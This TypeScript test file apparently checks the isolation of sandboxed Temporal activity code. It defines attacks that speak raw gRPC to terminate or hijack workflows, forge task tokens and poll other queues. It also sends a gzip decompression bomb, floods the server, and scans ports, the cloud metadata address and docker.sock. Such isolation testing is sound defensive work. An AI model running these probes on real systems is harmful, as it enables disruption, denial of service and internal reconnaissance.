import type { Attack } from './attacks.ts';
import { inPlaceOfShipping } from './in-activities.ts';

/**
 * Speaks the server's protocol itself, past the SDK: a call returns the status that gRPC gives, and
 * what came. Whoever gets what is not theirs says that the parcel was sent, and is so found out.
 */
const SPEAK = `
  const { connect } = process.getBuiltinModule('node:http2');
  const { gzipSync } = process.getBuiltinModule('node:zlib');
  const { workflowExecution: { workflowId, runId }, taskQueue } = activityInfo();
  const sized = (bytes) => { const size = []; let left = bytes.length; while (left > 127) { size.push(left % 128 + 128); left = Math.floor(left / 128); } return Buffer.concat([Buffer.from([...size, left]), bytes]); };
  const part = (number, value) => Buffer.concat([Buffer.from([number * 8 + 2]), sized(Buffer.from(value))]);
  const parts = (...of) => Buffer.concat(of);
  const execution = parts(part(1, workflowId), part(2, runId));
  const call = (method, message, more = {}, service = 'workflowservice.v1.WorkflowService') => new Promise((resolve) => {
    const session = connect('http://127.0.0.1:7233');
    const end = (status, came) => { session.destroy(); resolve({ status, came }); };
    session.on('error', () => end('none', 0));
    const stream = session.request({ ':method': 'POST', ':path': '/temporal.api.' + service + '/' + method, 'content-type': 'application/grpc', te: 'trailers', ...more });
    let status = 'none';
    let came = 0;
    const heads = (of) => { status = of['grpc-status'] ?? status; };
    stream.on('response', heads).on('trailers', heads).on('data', (data) => { came += data.length; });
    stream.on('error', () => end(status, came)).on('close', () => end(status, came));
    const head = Buffer.alloc(5);
    head.writeUInt8('grpc-encoding' in more ? 1 : 0);
    head.writeUInt32BE(message.length, 1);
    stream.end(Buffer.concat([head, message]));
  });
  let got = false;
  const tell = ({ status, came }) => { if (status === '0' || came > 5) got = true; };
`;
const RESULT = "got ? 'parcel of ' + order : 'no parcel'";

function speaks(code: string): Attack['files'] {
  const files = inPlaceOfShipping(`${SPEAK}\n${code}`, RESULT);
  const activities = files['activities.ts'] ?? '';
  const head = '// @ts-nocheck\n';
  return {
    ...files,
    'activities.ts': activities.replace(
      head,
      `${head}import { activityInfo } from '@temporalio/activity';\n`,
    ),
  };
}

/** Nothing is sent, and the rest is right. */
const NO_PARCEL = 'fail: waits-an-hour';

/** Attacks by way of the one socket that an answer has, and by looking for others. */
export const IN_NETWORK: readonly Attack[] = [
  {
    name: 'asks what everybody may ask, which shows that the calls below arrive',
    files: speaks("tell(await call('GetSystemInfo', parts()));"),
    ends: 'fail: waits-an-hour each-order-its-own',
  },
  {
    name: 'ends its own run, and begins one in its place',
    files: speaks(`
      tell(await call('TerminateWorkflowExecution', parts(part(1, 'default'), part(2, execution))));
      tell(await call('StartWorkflowExecution', parts(part(1, 'default'), part(2, workflowId), part(3, part(1, 'sendParcel')), part(4, part(1, taskQueue)), part(9, 'x'))));
      tell(await call('ResetWorkflowExecution', parts(part(1, 'default'), part(2, execution))));
      tell(await call('RequestCancelWorkflowExecution', parts(part(1, 'default'), part(2, execution))));
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'moves time itself',
    files: speaks(`
      for (const method of ['LockTimeSkipping', 'UnlockTimeSkipping', 'UnlockTimeSkippingWithSleep', 'SleepUntil', 'GetCurrentTime']) {
        tell(await call(method, parts(), {}, 'testservice.v1.TestService'));
      }
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'looks into histories, its own and others',
    files: speaks(`
      tell(await call('ListOpenWorkflowExecutions', part(1, 'default')));
      tell(await call('ListWorkflowExecutions', part(1, 'default')));
      tell(await call('DescribeNamespace', part(1, 'temporal-system')));
      tell(await call('GetWorkflowExecutionHistoryReverse', parts(part(1, 'default'), part(2, execution))));
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'answers tasks by tokens that it made up',
    files: speaks(`
      const token = Buffer.from(JSON.stringify({ workflowId, runId }));
      for (const method of ['RespondWorkflowTaskCompleted', 'RespondWorkflowTaskFailed', 'RespondActivityTaskCompleted', 'RespondActivityTaskFailed', 'RespondQueryTaskCompleted']) {
        tell(await call(method, parts(part(1, token))));
        tell(await call(method, parts(part(1, execution))));
      }
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'asks for the tasks of queues that are not its own',
    files: speaks(`
      for (const name of ['default', 'temporal-sys', taskQueue + '-sticky', '']) {
        tell(await call('PollWorkflowTaskQueue', parts(part(1, 'default'), part(2, part(1, name)))));
        tell(await call('PollActivityTaskQueue', parts(part(1, 'default'), part(2, part(1, name)))));
      }
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'sends what is small and becomes large',
    files: speaks(`
      const bomb = gzipSync(Buffer.alloc(200_000_000));
      tell(await call('RespondActivityTaskCompleted', bomb, { 'grpc-encoding': 'gzip' }));
      const empty = Buffer.alloc(4_000_000, Buffer.from([26, 0]));
      tell(await call('RespondWorkflowTaskCompleted', empty));
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'calls without an end',
    files: speaks(`
      for (let turn = 0; turn < 20; turn += 1) {
        await Promise.all(Array.from({ length: 100 }, () => call('GetSystemInfo', parts(), { 'x-much': 'x'.repeat(4000) })));
      }
    `),
    ends: NO_PARCEL,
  },
  {
    name: 'looks for other ways out',
    files: speaks(`
      const reach = (where) => new Promise((resolve) => {
        const socket = net.connect(where);
        socket.on('connect', () => { got = true; resolve(); });
        socket.on('error', () => resolve());
      });
      const ports = [22, 53, 80, 443, 2375, 3000, 5432, 7234, 7243, 8080, 8233, 9229];
      await Promise.all(['127.0.0.1', '10.0.0.1', '169.254.169.254', '1.1.1.1', '::1'].flatMap((host) => ports.filter((port) => port !== 7234 || host !== '127.0.0.1').map((port) => reach({ host, port }))));
      for (const path of ['/var/run/docker.sock', '/run/systemd/private', '\\0/tmp/.X11-unix/X0']) await reach({ path });
    `),
    ends: NO_PARCEL,
  },
];
